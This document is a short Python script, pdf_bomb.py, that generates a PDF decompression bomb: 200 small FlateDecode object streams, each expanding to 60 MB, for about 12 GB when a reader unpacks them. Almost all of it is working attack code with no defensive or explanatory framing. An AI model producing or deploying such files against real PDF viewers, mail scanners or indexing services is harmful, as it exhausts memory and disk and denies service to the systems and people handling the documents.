#!/usr/bin/env python3
"""Writes a PDF whose 200 object streams of 64 KB unpack to 60 MB each: small to send, 12 GB to read.

usage: pdf_bomb.py FILE
"""
import sys
import zlib

STREAMS = 200
UNPACKED = 60 * 1024 * 1024


def main(path: str) -> None:
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}
    packed = zlib.compress(b"%d 0 <</A 1>>" % 100000 + b" " * UNPACKED, 9)
    for number in range(10, 10 + STREAMS):
        offsets[number] = len(out)
        head = b"%d 0 obj\n<</Type/ObjStm/N 1/First 9/Filter/FlateDecode/Length %d>>\nstream\n" % (number, len(packed))
        out += head + packed + b"\nendstream\nendobj\n"
    offsets[1] = len(out)
    out += b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    offsets[2] = len(out)
    out += b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    start = len(out)
    offsets[3] = start
    size = 10 + STREAMS
    rows = bytearray()
    for number in range(size):
        offset = offsets.get(number)
        rows += bytes([0 if offset is None else 1]) + (offset or 0).to_bytes(4, "big") + b"\0"
    table = zlib.compress(bytes(rows))
    out += b"3 0 obj\n<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % (size, len(table))
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    with open(path, "wb") as file:
        file.write(out)


if __name__ == "__main__":
    main(sys.argv[1])
